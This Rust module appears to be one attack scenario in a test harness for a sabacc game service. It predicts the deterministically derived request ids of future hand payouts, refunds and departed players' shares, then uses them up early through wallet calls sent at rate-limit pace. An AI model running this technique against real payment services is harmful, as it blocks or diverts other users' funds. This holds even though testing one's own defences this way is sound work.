//! A player uses up request ids that a table derives from its state and that anybody can compute.

use std::time::Duration;

use primitives::{RequestId, TableId};
use proto::wallet::v1::{Limits, SetLimitsRequest};
use sha2::{Digest as _, Sha256};

use super::{AttackContext, Outcome};
use crate::caller::{Caller, answered};

/// Number of hands beyond the one in play.
const HANDS_AHEAD: u64 = 4;
/// Maximum number of rounds.
const MAX_ROUNDS: usize = 600;
/// Pause between two calls: as often as a player may.
const PAUSE: Duration = Duration::from_millis(55);

pub(super) async fn run(stage: AttackContext<'_>) -> anyhow::Result<Outcome> {
    let mut outcome = Outcome::default();
    let caller = Caller::new(stage.room, 2).await?;
    let table = stage.crew.table;
    let victims: Vec<[u8; 16]> = stage.crew.guests.iter().map(|guest| *guest.id.bytes()).collect();
    let mut used = std::collections::BTreeSet::new();
    'rounds: for _ in 0..MAX_ROUNDS {
        let hand_no = stage.crew.view().await?.hand_no;
        let fresh = ids(table, hand_no, &victims).into_iter().filter(|id| !used.contains(id));
        let fresh: Vec<[u8; 16]> = fresh.collect();
        for id in fresh {
            if stage.stop.is_cancelled() {
                break 'rounds;
            }
            let request = SetLimitsRequest {
                request_id: RequestId(id).to_string(),
                limits: Some(Limits { day: Some(5_000_000), ..Limits::default() }),
                ..SetLimitsRequest::default()
            };
            let answer = answered(caller.wallet().set_limits(caller.request(request))).await;
            // A call that was refused by the rate limit is repeated.
            if outcome.sent.count(answer).is_some() || RequestId(id).is_derived() {
                used.insert(id);
            }
            tokio::time::sleep(PAUSE).await;
        }
        if stage.stop.is_cancelled() {
            break;
        }
        tokio::time::sleep(PAUSE).await;
    }
    outcome.note(format!("{} ids tried", used.len()));
    Ok(outcome)
}

/// Returns ids of later transfers: of hands, of the pot's refund, of shares of players who left.
fn ids(table: TableId, hand_no: u64, victims: &[[u8; 16]]) -> Vec<[u8; 16]> {
    let mut ids = Vec::new();
    for hand_no in hand_no..=hand_no + HANDS_AHEAD {
        ids.push(*fairness::hand_id(table, hand_no).bytes());
    }
    let number = (hand_no + HANDS_AHEAD).to_be_bytes();
    ids.push(derived("refund", &[table.bytes(), &number]));
    for player in victims {
        ids.push(derived("absent", &[table.bytes(), player, &number]));
    }
    ids
}

/// Derives an id as the table service does.
fn derived(what: &str, parts: &[&[u8]]) -> [u8; 16] {
    let mut hash = Sha256::new();
    hash.update(b"sabacc/request-id/v2");
    for part in [&[what.as_bytes()], parts].concat() {
        hash.update(u32::try_from(part.len()).unwrap_or(u32::MAX).to_be_bytes());
        hash.update(part);
    }
    let hash: [u8; 32] = hash.finalize().into();
    let mut id = [0; 16];
    id.copy_from_slice(&hash[..16]);
    RequestId::derived(id).0
}
